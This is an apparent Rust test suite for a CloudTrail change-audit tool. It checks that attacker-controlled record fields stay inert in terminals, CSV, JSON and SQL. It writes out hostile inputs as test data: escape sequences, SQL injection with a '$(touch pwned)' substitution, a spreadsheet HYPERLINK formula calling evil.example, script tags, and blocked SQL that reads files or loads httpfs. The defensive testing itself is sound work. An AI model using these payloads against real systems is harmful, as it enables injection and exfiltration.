//! What an attacker writes into an audit field is text, wherever it comes out.

use std::io::Write;
use std::process::Command;

use serde_json::{Value, json};

use crate::support::{Output, Place};

/// Clears the screen, sets the title, writes over the line, turns text around.
const ESCAPES: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}innocent\r\u{202e}reversed\u{9b}31m";
const QUOTES: &str = "a'; drop table raw_record; --\"b`$(touch pwned)\\";
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/\"&A1)";
const MARKUP: &str = "<script>alert(1)</script>";

/// A source whose name is an attack too, with one change for each attack.
fn place() -> Place {
    let name = r"aws '; drop table unit; --";
    let place =
        Place::new(&format!("[[source]]\nname = \"{name}\"\nconnector = \"aws-cloudtrail\"\npath = \"trail\"\n"));
    let attacks = [ESCAPES, QUOTES, FORMULA, MARKUP, "+1", "-1", "@x", "\tx", "a,b\n\"c\""];
    let records: Vec<Value> = attacks
        .iter()
        .enumerate()
        .map(|(number, attack)| {
            json!({
                "eventTime": format!("2026-11-03T10:00:{number:02}Z"), "eventID": format!("e{number}"),
                "eventSource": "s3.amazonaws.com", "eventName": format!("Put{attack}"), "readOnly": false,
                "userAgent": attack, "awsRegion": attack,
                "userIdentity": {"type": "IAMUser", "arn": attack, "userName": attack, "accessKeyId": attack},
                "resources": [{"ARN": attack}], "requestParameters": {"name": attack, (*attack): attack},
                "recipientAccountId": attack,
            })
        })
        .collect();
    place.write("trail/a.json", json!({ "Records": records }).to_string());
    // An attempt too, and something that is set aside: their texts come out in other reports.
    let mut failed = records[0].clone();
    failed["eventID"] = json!("failed");
    failed["errorCode"] = json!(ESCAPES);
    failed["errorMessage"] = json!(QUOTES);
    let rest = format!("{{\"Records\":[{failed},\"{}\"]}}", "\\u001b[31mnot a record");
    place.write("trail/b \u{1b}[1m.json", rest);
    place.run(&["audit"]);
    place
}

fn is_inert(text: &str) -> bool {
    text.chars().all(|c| c == '\n' || (!c.is_control() && !('\u{202a}'..='\u{202e}').contains(&c)))
}

#[test]
fn a_terminal_gets_no_escape_sequence() {
    let place = place();
    let id = place.report("changes").column("change_id")[0].to_owned();
    for args in [
        &["report", "changes"][..],
        &["report", "attempts"],
        &["report", "findings"],
        &["report", "coverage"],
        &["report", "manual-changes"],
        &["query", "from event"],
        &["query", "from quarantine"],
        &["query", "from unit"],
        &["explain", &id],
        &["collect", "--since", "2026-01-01"],
        &["audit"],
        &["check"],
    ] {
        let Output { stdout, stderr, .. } = place.run(args);
        assert!(is_inert(&stdout), "{args:?}\n{stdout:?}");
        assert!(is_inert(&stderr), "{args:?}\n{stderr:?}");
    }
}

#[test]
fn errors_and_logs_are_inert_too() {
    let place = place();
    for args in [
        &["-vv", "reconcile"][..],
        &["-vv", "collect", "--since", "2026-01-01"],
        &["explain", ESCAPES],
        &["report", ESCAPES],
        &["query", ESCAPES],
        &["collect", "--source", ESCAPES],
        &["--store", ESCAPES, "report", "changes"],
    ] {
        let output = place.run(args);
        assert!(is_inert(&output.stderr), "{args:?}\n{:?}", output.stderr);
    }
}

/// No name begins a line that would pass for one of ours.
#[cfg(unix)]
#[test]
fn no_name_forges_a_line() {
    let forged = "a\nerror: forged\n  caused by: forged\r\u{1b}[2J.json";
    let place = Place::new("[[source]]\nname = \"aws\"\nconnector = \"aws-cloudtrail\"\npath = \"trail\"\n");
    place.write(&format!("trail/{forged}"), "{\"Records\":[{");
    place.write("trail/x.txt", "no log");
    std::os::unix::fs::symlink("nowhere", place.path(&format!("trail/b{forged}"))).expect("a link");
    place.write(&format!("{forged}.toml"), "[[source]]\nname = \"a\\nerror: forged\"\nx = 1\n");
    place.write("records.jsonl", "{\"schema\":\"changetrail.deployment/1\",\"id\":\"r1\",\"pipeline\":\"p\",\"stage\":\"prod\",\"outcome\":\"x\\nerror: forged\"}\n");
    let toml = format!("{forged}.toml");
    for args in [
        &["-vv", "collect"][..],
        &["audit"],
        &["check"],
        &["record", "records.jsonl"],
        &["record", forged],
        &["query", "-f", forged],
        &["query", forged],
        &["report", forged],
        &["import", "--source", "aws", forged],
        &["--config", &toml, "audit"],
        &["--store", forged, "report", "changes"],
        &["reconcile", "--what-if", forged],
        &["report", "changes", "--out", forged],
    ] {
        let output = place.run(args);
        for line in output.stderr.lines().chain(output.stdout.lines()) {
            assert!(
                !line.starts_with("error: forged") && !line.starts_with("  caused by: forged"),
                "{args:?}\n{output}"
            );
        }
        assert!(is_inert(&output.stderr) && is_inert(&output.stdout), "{args:?}\n{output}");
    }
    place.ran(2, &["audit"]).says(&["a\\nerror: forged\\n  caused by: forged\\r\\u{1b}[2J.json"]);
}

#[test]
fn a_spreadsheet_runs_no_cell() {
    let place = place();
    for report in ["changes", "attempts", "findings", "coverage"] {
        let table = place.report(report);
        assert!(!table.rows.is_empty(), "{report}");
        for cell in table.rows.iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{report}: {cell:?}");
        }
    }
    let table = place.query("select '=1+1' as \"=x\", -1 as negative");
    assert_eq!(table.columns[0], "'=x");
    assert_eq!(table.rows, [["'=1+1", "-1"]]);
}

#[test]
fn quotes_reach_no_statement() {
    let place = place();
    // Everything is there after another round: nothing was dropped, nothing was made.
    place.run(&["audit"]);
    place.ran(0, &["reconcile", "--rebuild"]);
    assert_eq!(place.report("changes").rows.len(), 9);
    assert_eq!(place.report("attempts").rows.len(), 1);
    assert_eq!(place.query("select count(*) from unit").rows, [["2"]]);
    let names = place.query("select distinct source from raw_record");
    assert_eq!(names.rows, [["aws '; drop table unit; --"]]);
    assert!(!place.path("pwned").exists());
    place
        .ran(2, &["report", "changes", "-o", "csv", "--service", QUOTES])
        .says(&["there is no service `a'; drop table"]);
}

#[test]
fn json_says_exactly_what_was_recorded() {
    let place = place();
    let said: Value = serde_json::from_str(&place.ran(0, &["report", "changes", "-o", "json"]).stdout).expect("JSON");
    let actions: Vec<&str> =
        said.as_array().expect("an array").iter().map(|row| row["action"].as_str().expect("text")).collect();
    assert_eq!(actions[0], format!("s3:Put{ESCAPES}"));
    assert_eq!(actions[1], format!("s3:Put{QUOTES}"));
    let lines = place.ran(0, &["report", "changes", "-o", "ndjson"]).stdout;
    assert_eq!(lines.lines().count(), 9);
    for line in lines.lines() {
        serde_json::from_str::<Value>(line).unwrap_or_else(|error| panic!("{line}: {error}"));
    }
}

#[test]
fn ad_hoc_sql_reaches_nothing_but_the_store() {
    let place = place();
    let file = place.write("secret.csv", "a\nb\n");
    let path = file.display();
    for sql in [
        &format!("from read_csv('{path}')"),
        &format!("from '{path}'"),
        &format!("copy (select 1) to '{path}'"),
        &format!("attach '{path}.duckdb' as other"),
        "install httpfs",
        "load httpfs",
        "set enable_external_access = true",
        "delete from raw_record",
        "create table x (y integer)",
        "drop table raw_record",
        "update change set verdict = 'released'",
        "pragma database_list; delete from raw_record",
        "select getenv('HOME')",
    ] {
        let output = place.run(&["query", sql]);
        assert_eq!(output.code, Some(2), "{sql}\n{output}");
    }
    assert_eq!(std::fs::read_to_string(&file).expect("the file"), "a\nb\n");
    assert_eq!(place.report("changes").rows.len(), 9);
}

#[test]
fn no_secret_is_stored() {
    let place = Place::new("[[source]]\nname = \"aws\"\nconnector = \"aws-cloudtrail\"\npath = \"trail\"\n");
    let secrets = ["wJalrXUtnFEMIsecret", "IQoJb3JpZ2luX2VjTOKEN", "hunter2hunter2", "IyEvYmluL3No"];
    let record = |id: &str, name: &str, rest: Value| {
        let mut record = json!({"eventTime": "2026-11-03T10:00:00Z", "eventID": id, "eventSource": "iam.amazonaws.com", "eventName": name,
            "readOnly": false, "userIdentity": {"type": "Root"}, "recipientAccountId": "111122223333"});
        for (key, value) in rest.as_object().expect("an object") {
            record[key] = value.clone();
        }
        record
    };
    let records = [
        record(
            "e1",
            "CreateAccessKey",
            json!({"responseElements": {"accessKey": {"accessKeyId": "AKIA1", "secretAccessKey": secrets[0]}}}),
        ),
        record(
            "e2",
            "AssumeRole",
            json!({"eventSource": "sts.amazonaws.com", "responseElements": {"credentials": {"accessKeyId": "ASIA1", "sessionToken": secrets[1]}}}),
        ),
        record("e3", "CreateLoginProfile", json!({"requestParameters": {"userName": "x", "password": secrets[2]}})),
        record(
            "e4",
            "RunInstances",
            json!({"eventSource": "ec2.amazonaws.com", "requestParameters": {"userData": secrets[3]}}),
        ),
    ];
    place.write("trail/a.json", json!({ "Records": records }).to_string());
    place.run(&["-vv", "audit"]);
    let stored =
        place.query("select record_id, record, received_hmac is not null as marked from raw_record order by 1");
    assert_eq!(stored.column("record_id"), ["e1", "e2", "e3", "e4"]);
    assert_eq!(stored.column("marked"), ["true"; 4]);
    let store = std::fs::read(place.store()).expect("the store");
    for secret in secrets {
        assert!(!stored.to_csv().contains(secret), "{secret}");
        assert!(!store.windows(secret.len()).any(|bytes| bytes == secret.as_bytes()), "{secret}");
    }
}

fn gzip(text: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(text).expect("memory");
    encoder.finish().expect("memory")
}

/// A change that is as it should be.
fn whole(id: &str) -> String {
    json!({"eventTime": "2026-11-03T10:00:00Z", "eventID": id, "eventSource": "s3.amazonaws.com", "eventName": "CreateBucket",
        "readOnly": false, "userIdentity": {"type": "Root"}, "recipientAccountId": "111122223333"})
    .to_string()
}

#[test]
fn what_is_absurd_costs_nothing_but_itself() {
    let place = Place::new("[[source]]\nname = \"aws\"\nconnector = \"aws-cloudtrail\"\npath = \"trail\"\n");
    let odd = |id: &str, change: (&str, &str)| whole(id).replace(change.0, change.1).into_bytes();
    let nested = |depth: usize| format!("\"CreateBucket\",\"x\":{}{}", "[".repeat(depth), "]".repeat(depth));
    let long = format!("\"CreateBucket\",\"x\":\"{}\"", "x".repeat(50_000_000));
    let mut not_utf8 = odd("not-utf8", ("CreateBucket", "Create?Bucket"));
    let place_of = not_utf8.iter().position(|byte| *byte == b'?').expect("a mark");
    not_utf8[place_of] = 0xff;
    // Each between two that are whole: (name, bytes, whether it is a record all the same).
    let records: Vec<(&str, Vec<u8>, bool)> = vec![
        ("nested-60", odd("nested-60", ("\"CreateBucket\"", &nested(60))), true),
        ("nested-100", odd("nested-100", ("\"CreateBucket\"", &nested(100))), false),
        ("nested-10000", odd("nested-10000", ("\"CreateBucket\"", &nested(10_000))), false),
        ("long", odd("long", ("\"CreateBucket\"", &long)), false),
        ("not-utf8", not_utf8, false),
        ("twice", odd("twice", ("\"readOnly\":false", "\"readOnly\":false,\"eventName\":\"GetX\"")), false),
        ("nobody", odd("nobody", ("\"userIdentity\":{\"type\":\"Root\"}", "\"x\":0")), true),
        ("future", odd("future", ("2026-11-03", "2999-12-31")), true),
        ("beyond", odd("beyond", ("2026-11-03", "99999-12-31")), false),
    ];
    for (name, bytes, _) in &records {
        let (before, after) = (whole(&format!("{name}-before")), whole(&format!("{name}-after")));
        let text = [b"{\"Records\":[", before.as_bytes(), b",", bytes, b",", after.as_bytes(), b"]}"].concat();
        place.write(&format!("trail/{name}.json.gz"), gzip(&text));
    }
    let cut = gzip(format!("{{\"Records\":[{},{}]}}", whole("cut-before"), whole("cut-lost")).as_bytes());
    place.write("trail/cut.json.gz", &cut[..cut.len() - 20]);
    // The file that ends early is one that could not be read to its end.
    let output = place.run(&["audit"]);
    assert_eq!(output.code, Some(2), "{output}");
    let changes = place.report("changes");
    let ids = changes.column("record_id");
    for (name, _, is_record) in &records {
        let set_aside =
            place.query(&format!("select count(*), min(error) from quarantine where unit = '{name}.json.gz'"));
        assert!(
            ids.contains(&format!("{name}-before").as_str()) && ids.contains(&format!("{name}-after").as_str()),
            "{name}"
        );
        assert_eq!(ids.contains(name), *is_record, "{name}: {set_aside:?}");
        assert_eq!(set_aside.rows[0][0] == "0", *is_record, "{name}: {set_aside:?}");
        assert!(*is_record || !set_aside.rows[0][1].is_empty(), "{name} without a reason");
    }
    let verdict = place.query("select verdict from change where record_id = 'nobody'");
    assert_eq!(verdict.rows, [["unattributed"]]);
    let unread = place.query("select incomplete is not null from unit where unit = 'cut.json.gz'");
    assert_eq!(unread.rows, [["true"]]);
}

#[test]
fn a_reader_that_goes_away_is_no_failure() {
    let place = place();
    let program = env!("CARGO_BIN_EXE_changetrail");
    let output = Command::new("bash")
        .args(["-c", "set -o pipefail; \"$0\" query \"from range(1000000)\" -o csv | head -1"])
        .arg(program)
        .current_dir(place.path(""))
        .output()
        .expect("bash");
    assert!(output.status.success(), "{output:?}");
}

#[test]
fn a_record_of_any_shape_is_a_row() {
    let place = Place::new("[[source]]\nname = \"aws\"\nconnector = \"aws-cloudtrail\"\npath = \"trail\"\n");
    let types = [
        "Root",
        "IAMUser",
        "AssumedRole",
        "Role",
        "FederatedUser",
        "Directory",
        "AWSAccount",
        "AWSService",
        "IdentityCenterUser",
        "SAMLUser",
        "WebIdentityUser",
        "Unknown",
        "",
        "Made-Up",
        "root",
    ];
    let odd = [Value::Null, json!(""), json!(17), json!([]), json!({}), json!("arn:::"), json!("\u{0}/")];
    let mut records = Vec::new();
    for kind in types {
        for odd in &odd {
            let id = format!("e{}", records.len());
            records.push(json!({
                "eventTime": "2026-11-03T10:00:00Z", "eventID": id, "eventSource": "s3.amazonaws.com",
                "eventName": "PutBucketPolicy", "readOnly": false, "recipientAccountId": odd, "awsRegion": odd,
                "userIdentity": {"type": kind, "arn": odd, "userName": odd, "principalId": odd, "accountId": odd,
                    "invokedBy": odd, "accessKeyId": odd, "sessionContext": {"sessionIssuer": {"arn": odd}, "attributes": {"creationDate": odd}}},
                "resources": odd, "requestParameters": odd, "responseElements": odd, "userAgent": odd,
            }));
        }
    }
    for odd in &odd {
        records.push(json!({"eventTime": "2026-11-03T10:00:00Z", "eventID": format!("e{}", records.len()),
            "eventSource": "s3.amazonaws.com", "eventName": "PutBucketPolicy", "userIdentity": odd}));
    }
    let count = records.len();
    place.write("trail/a.json", json!({ "Records": records }).to_string());
    let output = place.run(&["audit"]);
    assert_eq!(output.code, Some(1), "{output}");
    assert_eq!(place.report("changes").rows.len(), count);
}

/// Who reads only the first lines, or none, is told by the exit code what was found all the same.
#[test]
fn how_a_run_ends_is_not_a_matter_of_who_listens() {
    use std::process::Stdio;
    let place = crate::support::world::place();
    let manual = serde_json::json!([{"id": "c", "time": "10:05", "action": "s3:PutBucketPolicy", "who": "sso:alice@example.org", "key": "ASIA1", "console": true}]);
    crate::support::world::log(&place, "1", manual);
    let unheard = |args: &[&str]| {
        let mut child = place.command(args).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("a process");
        drop(child.stdout.take());
        let output = child.wait_with_output().expect("an end");
        (output.status.code(), String::from_utf8_lossy(&output.stderr).into_owned())
    };
    assert_eq!(unheard(&["audit"]).0, Some(1), "{:?}", unheard(&["audit"]));
    assert_eq!(unheard(&["report", "findings", "--fail-on", "low"]).0, Some(1));
    assert_eq!(unheard(&["report", "findings"]).0, Some(0));
    place.write("changetrail.toml", "[[source]]\nname = \"log\"\nconnector = \"release-log\"\npath = \"nowhere\"\n");
    assert_eq!(unheard(&["check"]).0, Some(2));
    assert_eq!(unheard(&["audit"]).0, Some(2));
}
